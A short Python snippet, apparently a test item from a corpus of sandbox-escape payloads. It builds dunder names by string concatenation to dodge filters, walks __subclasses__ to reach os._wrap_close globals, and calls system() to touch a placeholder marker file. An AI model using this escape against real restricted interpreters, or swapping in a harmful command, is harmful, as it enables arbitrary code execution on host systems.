# family: getattr with computed strings
# goal: walk __mro__/__subclasses__ with computed attribute names
name_mro = "__" + "mro" + "__"
name_sub = "".join(["__sub", "classes__"])
base = getattr(type(1), name_mro)[-1]
for cls in getattr(base, name_sub)():
    if cls.__name__ == "_wrap_close":
        g = getattr(getattr(cls, "__init__"), "__glo" + "bals__")
        g["system"]("touch __MARKER_PATH__")
